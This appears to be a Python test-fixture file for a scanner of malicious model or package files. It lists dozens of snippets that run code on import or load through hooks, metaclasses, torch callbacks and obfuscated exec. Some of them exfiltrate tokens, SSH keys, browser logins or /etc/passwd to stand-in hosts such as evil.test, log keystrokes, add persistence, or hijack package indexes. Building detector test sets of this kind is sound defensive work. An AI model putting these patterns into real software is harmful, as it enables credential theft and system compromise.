"""Builds modules that act when they are imported, made or used, each by another way of Python's.

Nothing here is ever run.
"""

from __future__ import annotations

MODULES: dict[str, str] = {
    "import hook file": (
        "import sys, importlib.abc\n"
        "class F(importlib.abc.MetaPathFinder):\n"
        "    def find_spec(self,n,p,t=None):\n"
        "        import os; os.system('id')\n"
        "sys.meta_path.insert(0,F())\n"
    ),
    "gc callback": "import gc,os\ngc.callbacks.append(lambda p,i: os.system('id'))\n",
    "audit hook": (
        "import sys,os\nsys.addaudithook(lambda e,a: os.system('id') if e=='open' else None)\n"
    ),
    "settrace": "import sys,os\ndef t(f,e,a): os.system('id')\nsys.settrace(t)\n",
    "excepthook": "import sys,os\nsys.excepthook=lambda *a: os.system('id')\n",
    "displayhook": "import sys,os\ndef d(x): os.system('id')\nsys.displayhook=d\n",
    "atexit": "import atexit,os\natexit.register(os.system,'id')\n",
    "signal": (
        "import signal,os\n"
        "signal.signal(signal.SIGALRM,lambda *a: os.system('id'))\n"
        "signal.alarm(1)\n"
    ),
    "timer": "import threading,os\nthreading.Timer(5,os.system,['id']).start()\n",
    "weakref": (
        "import weakref,os\nclass A: pass\na=A()\nweakref.finalize(a,os.system,'id')\ndel a\n"
    ),
    "contextvar del": "import os\nclass A:\n    def __del__(self): os.system('id')\nA()\n",
    "json hook": "import json,os\njson.loads('{}',object_hook=lambda d: os.system('id'))\n",
    "re sub": "import re,os\nre.sub('a',lambda m: os.system('id') or '', 'a')\n",
    "sorted key": "import os\nsorted(['id'],key=os.system)\n",
    "map list": "import os\nlist(map(os.system,['id']))\n",
    "comprehension": "import os\n[f('id') for f in [os.system]]\n",
    "walrus": "import os\nif (s:=os.system)('id'): pass\n",
    "match": "import os\nmatch os.system:\n    case f: f('id')\n",
    "star import": "from os import *\nsystem('id')\n",
    "try import": (
        "try:\n"
        "    import nope\n"
        "except ImportError:\n"
        "    from os import system as nope\n"
        "nope('id')\n"
    ),
    "getattr chain": "import os\ngetattr(getattr(os,'path').os,'sys'+'tem')('id')\n",
    "dict dispatch": "import os\nD={'a':os.system}\nD['a']('id')\n",
    "class attr": "import os\nclass C:\n    run=staticmethod(os.system)\nC.run('id')\n",
    "dataclass default": (
        "import os, dataclasses\n"
        "@dataclasses.dataclass\n"
        "class C:\n"
        "    a: int = dataclasses.field(default_factory=lambda: os.system('id'))\n"
        "C()\n"
    ),
    "init_subclass": (
        "import os\nclass B:\n    def __init_subclass__(cls): os.system('id')\nclass X(B): pass\n"
    ),
    "metaclass call": (
        "import os\n"
        "class M(type):\n"
        "    def __new__(m,n,b,d):\n"
        "        os.system('id'); return type.__new__(m,n,b,d)\n"
        "class X(metaclass=M): pass\n"
    ),
    "property forward": (
        "import os\nclass XModel:\n    @property\n    def device(self): return os.system('id')\n"
    ),
    "getattr module": "import os\ndef __getattr__(n):\n    os.system('id')\n",
    "register buffer hook": (
        "import torch,os\n"
        "class XModel(torch.nn.Module):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.register_forward_hook(lambda m,i,o: os.system('id'))\n"
    ),
    "state dict hook": (
        "import torch,os\n"
        "class XModel(torch.nn.Module):\n"
        "    def _load_from_state_dict(self,*a,**k):\n"
        "        os.system('id')\n"
    ),
    "decoder weights": (
        "import torch\n"
        "class XModel(torch.nn.Module):\n"
        "    def __init__(self,c):\n"
        "        super().__init__()\n"
        "    def forward(self,x):\n"
        "        exec(bytes(self.w.tolist()).decode())\n"
    ),
    "weights payload": (
        "import torch\n"
        "from safetensors.torch import load_file\n"
        "sd=load_file('model.safetensors')\n"
        "exec(bytes(sd['x'].tolist()))\n"
    ),
    "config payload": (
        "class XModel:\n    def __init__(self, config):\n        exec(config.payload)\n"
    ),
    "tokenizer json payload": (
        "import json\nexec(json.load(open('tokenizer_config.json'))['x'])\n"
    ),
    "steg image": (
        "from PIL import Image\nim=Image.open('a.png')\nb=bytes(im.getdata())\nexec(b)\n"
    ),
    "env b64": "import os,base64\nexec(base64.b64decode(os.environ.get('X','aW1wb3J0IG9z')))\n",
    "zlib marshal": "import zlib,marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf','rot13'))\n",
    "int bytes": "exec((0x696d706f7274206f73).to_bytes(9,'big'))\n",
    "chr join": "exec(''.join(map(chr,[105,109,112])))\n",
    "xor": "k=7\nexec(''.join(chr(c^k) for c in b'nanan'))\n",
    "unicode ident": "import os\n\U0001d630\U0001d634.system('id')\n",
    "lambda default": "import os\nf=lambda x=os.system('id'): x\n",
    "annotation": "import os\ndef f(x: os.system('id')): pass\n",
    "fstring": "import os\nx=f'{os.system(\"id\")}'\n",
    "assert": "import os\nassert os.system('id')==0\n",
    "type alias call": (
        "T=type('T',(),{'__init__':lambda s: __import__('os').system('id')})\nT()\n"
    ),
    "builtins dict": (
        "import builtins\nbuiltins.__dict__['ex'+'ec']('import os;os.system(\"id\")')\n"
    ),
    "operator": "import operator,os\noperator.methodcaller('system','id')(os)\n",
    "functools partial": "import functools,os\nfunctools.partial(os.system,'id')()\n",
    "concurrent": (
        "from concurrent.futures import ThreadPoolExecutor as T\n"
        "import os\n"
        "T().submit(os.system,'id')\n"
    ),
    "asyncio": (
        "import asyncio\n"
        "async def m():\n"
        "    await asyncio.create_subprocess_shell('id')\n"
        "asyncio.run(m())\n"
    ),
    "multiprocessing": (
        "import multiprocessing as mp, os\nmp.Process(target=os.system,args=('id',)).start()\n"
    ),
    "pty": "import pty\npty.spawn('/bin/sh')\n",
    "ctypes libc": "import ctypes\nctypes.CDLL(None).system(b'id')\n",
    "cffi": (
        "import cffi\n"
        "ffi=cffi.FFI();ffi.cdef('int system(const char*);');ffi.dlopen(None).system(b'id')\n"
    ),
    "torch ext": (
        "import torch.utils.cpp_extension as c\n"
        "c.load_inline('x','#include <cstdlib>\\nint a=system(\"id\");')\n"
    ),
    "hf download exec": (
        "from huggingface_hub import hf_hub_download\n"
        "exec(open(hf_hub_download('evil/repo','x.py')).read())\n"
    ),
    "snapshot import": (
        "import sys\n"
        "from huggingface_hub import snapshot_download\n"
        "sys.path.insert(0,snapshot_download('evil/repo'))\n"
        "import payload\n"
    ),
    "dns": "import socket,os\nsocket.gethostbyname(os.environ['HF_TOKEN'][:60]+'.evil.test')\n",
    "icmp env": "import os\nos.system('ping -c1 '+os.environ.get('USER','')+'.evil.test')\n",
    "webhook": (
        "import requests,socket,os\n"
        "requests.post('https://discord.com/api/webhooks/1/x',json={'c':socket.gethostname()+os.getcwd()})\n"
    ),
    "telegram": (
        "import urllib.request,getpass\n"
        "urllib.request.urlopen('https://api.telegram.org/bot1:x/sendMessage?text='+getpass.getuser())\n"
    ),
    "smtp": (
        "import smtplib\nsmtplib.SMTP('evil.test').sendmail('a','b',open('/etc/passwd').read())\n"
    ),
    "clipboard": (
        "import pyperclip,requests\nrequests.post('https://evil.test',data=pyperclip.paste())\n"
    ),
    "screenshot": (
        "from PIL import ImageGrab\n"
        "import requests\n"
        "ImageGrab.grab().save('/tmp/x.png')\n"
        "requests.post('https://evil.test',files={'f':open('/tmp/x.png','rb')})\n"
    ),
    "keylog": (
        "from pynput import keyboard\n"
        "keyboard.Listener(on_press=lambda k: open('/tmp/k','a').write(str(k))).start()\n"
    ),
    "browser db": (
        "import sqlite3,os\n"
        "sqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data')).execute('select * from logins')\n"
    ),
    "ssh dir": (
        "import shutil,os\nshutil.make_archive('/tmp/x','zip',os.path.expanduser('~/.ssh'))\n"
    ),
    "gitconfig": (
        "import subprocess\n"
        "subprocess.run(['git','config','--global','core.sshCommand','sh -c id'])\n"
    ),
    "crontab py": (
        "import subprocess\n"
        "subprocess.run('(crontab -l; echo \"* * * * * id\") | crontab -',shell=True)\n"
    ),
    "bashrc": "open('/home/user/.bashrc','a').write('id')\n",
    "pip conf": (
        "import os\n"
        "open(os.path.expanduser('~/.pip/pip.conf'),'w').write('[global]\\nindex-url=http://evil.test')\n"
    ),
    "pip config cmd": (
        "import os\nos.system('pip config set global.index-url http://evil.test/simple')\n"
    ),
    "pypath": "import os\nos.environ['PYTHONPATH']='/tmp/x'\n",
    "ldpreload": "import os\nos.environ['LD_PRELOAD']='./x.so'\n",
    "hf endpoint": (
        "import os\n"
        "os.environ['HF_ENDPOINT']='https://evil.test'\n"
        "from transformers import AutoModel\n"
        "AutoModel.from_pretrained('x')\n"
    ),
    "listen": "import logging.config\nlogging.config.listen(9999).start()\n",
    "http server": (
        "import http.server,threading\n"
        "threading.Thread(target=http.server.ThreadingHTTPServer(('0.0.0.0',8000),http.server.SimpleHTTPRequestHandler).serve_forever).start()\n"
    ),
    "code interact": (
        "import code,socket\ns=socket.socket();s.connect(('1.2.3.4',4))\ncode.interact()\n"
    ),
    "timeit": "import timeit\ntimeit.timeit('import os; os.system(\"id\")',number=1)\n",
    "runpy": "import runpy\nrunpy.run_path('weights.bin')\n",
    "zipimport": "import sys\nsys.path.insert(0,'model.safetensors')\nimport payload\n",
    "importlib loader": (
        "import importlib.machinery as m\nm.SourceFileLoader('x','tokenizer.model').load_module()\n"
    ),
}
"""Each of them has to fail."""
